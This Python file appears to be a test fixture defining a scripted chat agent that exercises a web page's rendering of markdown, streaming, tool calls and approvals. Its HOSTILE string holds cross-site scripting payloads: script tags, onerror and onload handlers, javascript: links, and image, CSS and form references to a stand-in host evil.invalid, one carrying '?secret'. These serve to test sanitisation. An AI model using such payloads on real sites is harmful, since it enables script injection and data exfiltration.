"""An agent for the page: it does what the tests of the page ask for, by the first word that is said to it."""

import base64
from collections.abc import Sequence
from typing import Any

import anyio

from tether import (
    Agent,
    ModelRequest,
    Text,
    TextDelta,
    Thinking,
    Tool,
    ToolContext,
    UserMessage,
    tool,
)
from tether.approvals import Approve, approval
from tether.testing import Pause, ScriptedModel, call

__all__ = ("HOSTILE", "make_agent")

PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)

TOUR = """# A tour

Some **bold** and *soft* words, `code`, and a [link](https://example.org/page).

- one
- two
    - nested, with `code`
- three

1. first
2. second

> A quotation, which says
> something over two lines.

| name | lines | what it is for |
|:-----|------:|:---------------|
| state.js | 302 | the fold from events to what is seen |
| prose.js | 110 | Markdown that grows |

```python
def fold(view: View, event: Event) -> View:
    \"\"\"Take in the next event.\"\"\"
    match event:
        case MessageEnd(message):  # whole
            return view.with_message(message, number=42)
```

That is all.
"""

HOSTILE = """<img src=x onerror="window.ran = 'img'"> <script>window.ran = 'script'</script>

[click](javascript:window.ran='link') and [data](data:text/html,<script>1</script>) and <javascript:window.ran=1>

![stolen](http://evil.invalid/?secret) ![also](//evil.invalid/x.png) ![svg](data:image/svg+xml;base64,PHN2Zz4=)

<iframe srcdoc="<script>parent.ran='frame'</script>"></iframe>
<svg onload="window.ran='svg'"><style>@import url(http://evil.invalid/a.css);</style></svg>
<form action="http://evil.invalid/"><input name=q><button>Go</button></form>
<link rel=stylesheet href=http://evil.invalid/b.css><base href=http://evil.invalid/>
<a href="http://evil.invalid/" ping="http://evil.invalid/ping">ping</a>
<math><mtext><table><mglyph><style><img src=x onerror=window.ran=1></style></mglyph></table></mtext></math>

[ref]: javascript:window.ran='ref' "x"
[ref] and ![img][evil]

[evil]: http://evil.invalid/ref.png

```html"><img src=x onerror=window.ran='lang'>
<script>window.ran = 'code'</script>
```

| <img src=x onerror=window.ran='cell'> | b |
|---|---|
| [x](vbscript:window.ran=1) | <b onclick=window.ran=1>b</b> |

The end of it.
"""


@tool(read_only=True)
async def count(context: ToolContext[Any], lines: int) -> str:
    """Count, line by line.

    Args:
        lines: how far
    """
    for line in range(1, lines + 1):
        await context.update(f"line {line} of {lines}")
        await anyio.sleep(0.05)
    return "\n".join(f"line {line} of {lines}" for line in range(1, lines + 1))


@tool
async def run_command(command: str) -> str:
    """Run a command.

    Args:
        command: what to run
    """
    await anyio.lowlevel.checkpoint()
    return f"$ {command}\n3 files changed"


@tool
async def edit_file(path: str, old: str, new: str) -> str:
    """Replace a text.

    Args:
        path: of the file
        old: what is there
        new: what is to be there
    """
    await anyio.lowlevel.checkpoint()
    return f"replaced 1 place in {path}"


OLD = 'def greet(name):\n    """Greet."""\n    print("Hello " + name)\n    return None\n'
NEW = 'def greet(name: str) -> None:\n    """Greet."""\n    print(f"Hello {name}")\n'


def reply(request: ModelRequest) -> Any:
    """Answer what was said last, by its first word."""
    asked = [message for message in request.messages if isinstance(message, UserMessage)]
    words = asked[-1].text.split() if asked else []
    if request.messages[-1].role == "tool":
        return "The call is done."
    match words[:1]:
        case ["tour"]:
            return [Thinking("The person wants to see everything.\n\nSo be it."), Text(TOUR)]
        case ["slow"]:
            return slowly(240)
        case ["big"]:
            return big(200_000)
        case ["fast"]:
            return paced(40_000, 100)
        case ["list"]:
            return paced(
                40_000, 100, "- an item of a list that goes on, with `code` and **weight**\n"
            )
        case ["count"]:
            return ["Counting.", call("count", lines=int((words[1:] or ["20"])[0]))]
        case ["run"]:
            return [
                "This changes things.",
                call("run_command", command=" ".join(words[1:]) or "ls"),
            ]
        case ["edit"]:
            return ["I change the greeting.", call("edit_file", path="greet.py", old=OLD, new=NEW)]
        case ["delegate"]:
            return [
                "Somebody else knows more.",
                call("helper", request=" ".join(words[1:]) or "count 3"),
            ]
        case ["deep"]:
            return f"{'>' * 5000} a\n\n{'a' * 60_000}\n\n{'_a' * 20_000}\n\nThe end of it."
        case ["hostile"]:
            return HOSTILE
        case _:
            media = (
                [block.type for block in asked[-1].content if block.type != "text"] if asked else []
            )
            return f"You said: **{asked[-1].text if asked else ''}**{' with ' + ', '.join(media) if media else ''}"


def slowly(words: int) -> Sequence[Any]:
    """A reply that takes its time."""
    return [
        part
        for word in range(words)
        for part in (
            TextDelta(f"word{word} " if word % 40 else f"\n\nParagraph {word}: "),
            Pause(seconds=0.02),
        )
    ]


def paced(characters: int, a_second: int, what: str = TOUR) -> Sequence[Any]:
    """A reply of a length, with this many deltas in a second."""
    text = (what * (characters // len(what) + 1))[:characters]
    pieces = [text[start : start + 80] for start in range(0, len(text), 80)]
    return [part for piece in pieces for part in (TextDelta(piece), Pause(seconds=1 / a_second))]


def big(characters: int) -> Sequence[Any]:
    """A long reply, as fast as it goes."""
    text = (TOUR * (characters // len(TOUR) + 1))[: characters - 12] + "\n\nEnd of it."
    return [TextDelta(text[start : start + 500]) for start in range(0, len(text), 500)]


ASKED_ABOUT = ("run_command", "edit_file")


def make_agent(approve: Approve) -> Agent:
    """Make the agent; `approve` is asked about what changes something."""
    helper = _agent("helper", "small", [count, run_command], approve)
    tools = [count, run_command, edit_file, helper.as_tool("helper", "Asks another agent")]
    return _agent("", "scripted-large", tools, approve)


def _agent(name: str, model: str, tools: Sequence[Tool], approve: Approve) -> Agent:
    scripted = ScriptedModel(*[reply] * 1000, name=model)
    agent = Agent(scripted, name=name, tools=tools)
    agent.around_tool(approval(approve, tools=ASKED_ABOUT))
    return agent
